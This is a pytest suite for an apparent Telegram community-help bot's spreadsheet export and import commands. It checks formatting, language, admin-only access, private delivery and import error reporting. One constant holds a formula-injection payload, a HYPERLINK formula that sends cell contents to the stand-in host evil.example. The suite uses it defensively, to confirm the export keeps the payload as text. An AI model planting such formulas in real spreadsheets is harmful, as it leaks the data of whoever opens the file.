"""Spreadsheets over the emulator: /export of each kind (an XLSX that opens, a frozen bold header,
dates as dates, the admin's language, a resident's "=HYPERLINK(...)" kept as text), always to the
admin's private chat; bad words and other people refused; /import with the file attached or sent
after (across a restart), and the same report as the shell."""

from __future__ import annotations

import io
from datetime import datetime

from openpyxl import load_workbook

from tests.conftest import ADMIN, GROUP, register, staffed_grid
from tests.core.test_sheets import _xlsx

EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"厨房水管爆了")'


def _sheet(document):
    assert document.kind == "document" and document.filename.endswith(".xlsx")
    return load_workbook(io.BytesIO(document.file)).active


def _column(ws, header: str) -> list:
    headers = [c.value for c in ws[1]]
    index = headers.index(header) + 1
    return [ws.cell(row, index) for row in range(2, ws.max_row + 1)]


async def _rated_ticket(frontdesk, emulator, admin) -> None:
    """Li reports a burst pipe in words that start like a formula; Zhang claims and resolves it;
    Li confirms, gives 4 stars and a comment that starts like one too."""
    zhang, resident = await staffed_grid(emulator, admin)
    resident.send(EVIL + " 水管爆了，水一直在喷")
    await resident.next_message("#1")
    alert = await zhang.next_message("#1")
    zhang.press(alert, "claim:1")
    details = await zhang.next_message("is yours now")
    zhang.press(details, details.button("resolve:"))
    fixed = await resident.next_message("Is it fixed?")
    resident.press(fixed, fixed.button("fixed:"))
    stars = await resident.next_message("rate")
    resident.press(stars, "rate:1:4")
    await resident.next_message("Skip")
    resident.send("+1 quick and kind")
    await resident.next_message("noted")


async def test_export_tickets_is_a_real_spreadsheet_in_the_admins_language(frontdesk, emulator, admin):
    await _rated_ticket(frontdesk, emulator, admin)
    admin.send("/export tickets")
    document = await admin.next_message("求助工单")
    assert "近 30 天" in document.text and "1 行" in document.text
    ws = _sheet(document)
    assert ws.freeze_panes == "A2" and all(cell.font.b for cell in ws[1])
    headers = [c.value for c in ws[1]]
    assert headers[:5] == ["编号", "提交时间", "状态", "紧急程度", "类别"]
    assert ws.column_dimensions["K"].width > ws.column_dimensions["A"].width   # the request is wider than its number
    (created,) = _column(ws, "提交时间")
    assert isinstance(created.value, datetime) and created.is_date
    # the FakeClock's 22:13 in Shanghai: local wall-clock time, no zone
    assert created.value.strftime("%H:%M") == "22:13"
    (text,) = _column(ws, "求助内容")
    assert text.data_type == "s" and text.value.startswith(EVIL)
    (comment,) = _column(ws, "评价")
    assert comment.data_type == "s" and comment.value == "+1 quick and kind"
    assert [c.value for c in _column(ws, "状态")] == ["已结束"] and [c.value for c in _column(ws, "评分")] == [4]
    assert [c.value for c in _column(ws, "求助人电话")] == ["+8613800001111"]


async def test_export_ratings_residents_and_volunteers(frontdesk, emulator, admin):
    await _rated_ticket(frontdesk, emulator, admin)
    english = emulator.user(ADMIN, "Wang", "en")
    english.send("/language")
    english.press(await english.next_message("choose a language"), "lang:en")
    await english.next_message("English")

    english.send("/export ratings 7d")
    ws = _sheet(await english.next_message("Ratings"))
    assert [c.value for c in ws[1]][:4] == ["No.", "Rated", "Rating", "Comment"]
    assert [(r[0].value, r[2].value, r[3].value) for r in ws.iter_rows(min_row=2)] == [(1, 4, "+1 quick and kind")]
    assert isinstance(ws["B2"].value, datetime)

    english.send("/export residents")
    document = await english.next_message("Residents")
    assert "everything" in document.text and "1 row" in document.text
    ws = _sheet(document)
    row = {ws.cell(1, c).value: ws.cell(2, c).value for c in range(1, ws.max_column + 1)}
    assert (row["Name"], row["Phone"], row["Building"], row["Room"], row["Lives alone"]) == (
        "Li Xiuying", "+8613800001111", "5", "302", "yes")
    assert isinstance(row["Registered"], datetime) and row["Telegram ID"] == 5001

    english.send("/export 志愿者 all")
    ws = _sheet(await english.next_message("Volunteers"))
    row = {ws.cell(1, c).value: ws.cell(2, c).value for c in range(1, ws.max_column + 1)}
    assert (row["Name"], row["Team"], row["Role"], row["Grids"], row["Telegram ID"]) == (
        "Zhang", "north", "member", "G1", 7001)
    assert isinstance(row["Joined"], datetime)


async def test_an_export_asked_in_a_group_goes_to_the_admin_privately(frontdesk, emulator, admin):
    await staffed_grid(emulator, admin)
    admin.send("/export residents", chat_id=GROUP)
    document = await admin.next_message("居民")
    assert document.chat_id == ADMIN and document.kind == "document"
    await emulator.wait_for(lambda: any("私信" in m.text for m in emulator.chat(GROUP)), 5, "the group to be told")
    assert all(m.kind != "document" for m in emulator.chat(GROUP))
    assert not any("Li Xiuying" in m.text for m in emulator.chat(GROUP))


async def test_a_wrong_kind_or_period_is_named_and_nothing_is_sent(frontdesk, emulator, admin):
    for command, words in (("/export shifts", ("shifts", "tickets")), ("/export", ("/export tickets 30d",)),
                           ("/export tickets fortnight", ("fortnight", "7d")),
                           ("/export tickets 2999-01", ("2999-01",)), ("/export tickets 400d", ("400d",))):
        admin.send(command)
        answer = await admin.next_message()
        assert all(word in answer.text for word in words), (command, answer.text)
    await frontdesk.drain()
    assert all(m.kind == "text" for m in emulator.chat(ADMIN))


async def test_people_who_are_not_admins_cannot_export_or_import(frontdesk, emulator, admin):
    zhang, resident = await staffed_grid(emulator, admin)
    for person in (zhang, resident):
        person.send("/export residents")
        assert "staff" in (await person.next_message()).text
    resident.send_document(_xlsx([["姓名", "楼号"], ["假人", 9]]), "residents.xlsx", caption="/import residents")
    assert "staff" in (await resident.next_message()).text
    await frontdesk.drain()
    assert all(m.kind == "text" for p in (zhang, resident) for m in p.messages())
    assert await frontdesk.value("SELECT count(*) FROM residents") == 1


async def test_a_residents_export_sent_back_with_import_gives_the_same_residents(frontdesk, emulator, admin):
    await staffed_grid(emulator, admin)
    admin.send("/export residents")
    exported = await admin.next_message("居民")
    before = await frontdesk.rows("SELECT name, phone, telegram_id, building, unit, room, grid, lives_alone, "
                                  "emergency_contact_name, emergency_contact_phone FROM residents ORDER BY id")
    admin.send_document(exported.file, exported.filename, caption="/import residents")
    report = await admin.next_message("居民导入")
    assert "Excel 表格" in report.text and "新增 0 人，更新 1 人" in report.text
    after = await frontdesk.rows("SELECT name, phone, telegram_id, building, unit, room, grid, lives_alone, "
                                 "emergency_contact_name, emergency_contact_phone FROM residents ORDER BY id")
    assert after == before and len(after) == 1


async def test_import_then_the_file_as_the_next_message_survives_a_restart(frontdesk, emulator, admin):
    admin.send("/import 居民")
    assert "15 分钟" in (await admin.next_message("文件")).text
    await frontdesk.restart()
    admin.send_media("photo")   # a picture of the sheet: asked for the file, still waiting
    assert "图片" in (await admin.next_message()).text
    admin.send_document(_xlsx([["名字?", "楼号"], ["王秀兰", 5]]), "旧表.xlsx")   # refused: still waiting
    assert "表头" in (await admin.next_message("没有导入")).text
    admin.send_document(_xlsx([["花名册"], ["姓名", "手机号", "楼号"], ["王秀兰", 13800001111, "5号楼"],
                               ["李建国", "abc", 5]]), "居民.xlsx")
    report = await admin.next_message("居民导入")
    assert "新增 1 人" in report.text and "第 4 行" in report.text and "abc" in report.text
    assert await frontdesk.value("SELECT count(*) FROM residents") == 1
    # the wait is over: the next file is a file, not an import
    admin.send_document(b"name,building\nX,1\n", "more.csv")
    assert "打不开文件" in (await admin.next_message()).text
    assert await frontdesk.value("SELECT count(*) FROM residents") == 1


async def test_the_wait_for_a_file_ends_by_itself(frontdesk, emulator, admin):
    admin.send("/import residents")
    await admin.next_message("文件")
    frontdesk.clock.advance(16 * 60)
    admin.send_document("姓名,楼号\nX,1\n".encode(), "residents.csv")
    assert "打不开文件" in (await admin.next_message()).text   # a file like any other
    assert await frontdesk.value("SELECT count(*) FROM residents") == 0


async def test_an_import_that_cannot_load_says_why_and_imports_nothing(frontdesk, emulator, admin):
    for data, words in (
        (_xlsx([["姓名", "电话", "楼号"], ["王秀兰", 13800001111, 5], ["李建国", 13800002222, 5]], "C2:C3"),
         ("合并", "C2:C3", "第 2 行")),
        (_xlsx([["名字?", "电话"], ["王秀兰", 13800001111]]), ("表头", "姓名")),
        (_xlsx([]), ("空",)),
        (b"PK\x03\x04 not a workbook at all", ("Excel",)),
    ):
        admin.send_document(data, "residents.xlsx", caption="/import residents")
        answer = await admin.next_message("没有导入")
        assert "residents.xlsx" in answer.text and all(word in answer.text for word in words), answer.text
    assert await frontdesk.value("SELECT count(*) FROM residents") == 0


async def test_imports_are_refused_kindly(frontdesk, emulator, admin):
    admin.send("/import tickets")
    assert "tickets" in (await admin.next_message("residents")).text
    admin.send_document(b"x", "t.xlsx", caption="/import tickets")
    assert "tickets" in (await admin.next_message("volunteers")).text
    admin.send("/import residents", chat_id=GROUP)
    await emulator.wait_for(lambda: any("私聊" in m.text for m in emulator.chat(GROUP)), 5, "the group to be told")
    admin.send_media("photo", caption="/import residents")
    assert "图片" in (await admin.next_message()).text
    big = b"0" * (5 * 1024 * 1024 + 1)
    admin.send_document(big, "huge.csv", caption="/import residents")
    answer = await admin.next_message("没有导入")
    assert "太大" in answer.text and "5.0 MB" in answer.text
    assert await frontdesk.value("SELECT count(*) FROM residents") == 0


async def test_import_volunteers_in_chat_then_they_can_be_exported(frontdesk, emulator, admin):
    admin.send_document("姓名,电话,队伍,网格,角色\n张伟,13800002222,一队,G1,队长\n".encode("gbk"), "志愿者.csv",
                        caption="/import volunteers")
    assert "新增 1 人" in (await admin.next_message("志愿者导入")).text
    admin.send("/export volunteers")
    ws = _sheet(await admin.next_message("志愿者"))
    row = {ws.cell(1, c).value: ws.cell(2, c).value for c in range(1, ws.max_column + 1)}
    assert (row["姓名"], row["手机号"], row["队伍"], row["角色"], row["负责网格"]) == (
        "张伟", "+8613800002222", "一队", "队长", "G1")


async def test_a_file_that_is_no_import_is_answered_as_before(frontdesk, emulator, admin):
    resident = emulator.user(5001, "Li", "en")
    await register(resident)
    resident.send_document(b"%PDF-1.4", "letter.pdf")
    assert "file" in (await resident.next_message()).text
    admin.send_document(b"%PDF-1.4", "letter.pdf")
    answer = await admin.next_message()
    assert "打不开文件" in answer.text and "/import residents" in answer.text   # staff are told how


async def test_help_shows_admins_the_spreadsheet_commands_and_nobody_else(frontdesk, emulator, admin):
    admin.send("/help")
    text = (await admin.next_message("/export")).text
    assert "/import residents" in text
    resident = emulator.user(5001, "Li", "en")
    await register(resident)
    resident.send("/help")
    assert "/export" not in (await resident.next_message("/status")).text


async def test_a_sheet_too_long_for_the_chat_loads_nothing_and_says_how(frontdesk, emulator, admin, monkeypatch):
    monkeypatch.setattr("bot.services.sheets.MOST_IMPORT_ROWS", 2)
    rows = "".join(f"居民{n},1380000{n:04d},5\n" for n in range(3))
    admin.send_document(("姓名,电话,楼号\n" + rows).encode(), "residents.csv", caption="/import residents")
    answer = await admin.next_message("没有导入")
    assert "3 行" in answer.text and "2 行" in answer.text and "frontdesk import" in answer.text
    assert await frontdesk.value("SELECT count(*) FROM residents") == 0


async def test_an_export_being_written_holds_up_no_other_chat(frontdesk, emulator, admin, monkeypatch):
    """The records are read in the update's transaction; the file is written after the commit, in
    a worker thread: here it is held until another person has written and been answered. Asked
    in a group, the file still goes privately, and the group hears so only once it is there."""
    import asyncio
    import threading

    from bot.core import sheets

    written, writing, release = sheets.to_xlsx, threading.Event(), threading.Event()

    def slow_xlsx(sheet):
        writing.set()
        assert release.wait(10), "never released"
        return written(sheet)

    monkeypatch.setattr(sheets, "to_xlsx", slow_xlsx)
    await staffed_grid(emulator, admin)
    admin.send("/export residents", chat_id=GROUP)
    assert await asyncio.to_thread(writing.wait, 10), "the export was never written"
    other = emulator.user(5003, "Zhou", "en")
    other.send("/help")                                                  # someone else, while the file waits
    assert "/status" in (await other.next_message()).text
    assert not [m for m in admin.messages() if m.kind == "document"]
    assert not any("私信" in m.text for m in emulator.chat(GROUP))
    release.set()
    document = await admin.next_message("居民")
    assert document.kind == "document" and document.chat_id == ADMIN
    row = {c.value: v.value for c, v in zip(_sheet(document)[1], _sheet(document)[2])}
    assert row["姓名"] == "Li Xiuying"
    await emulator.wait_for(lambda: any("私信" in m.text for m in emulator.chat(GROUP)), 5, "the group to be told")
    assert all(m.kind != "document" for m in emulator.chat(GROUP))


async def test_an_export_that_cannot_be_written_is_said_and_nothing_is_sent(frontdesk, emulator, admin, monkeypatch):
    from bot.core import sheets

    def broken(sheet):
        raise RuntimeError("disk full")

    monkeypatch.setattr(sheets, "to_xlsx", broken)
    admin.send("/export tickets")
    assert "没能做出来" in (await admin.next_message("求助工单")).text
    await frontdesk.drain()
    assert all(m.kind == "text" for m in admin.messages())
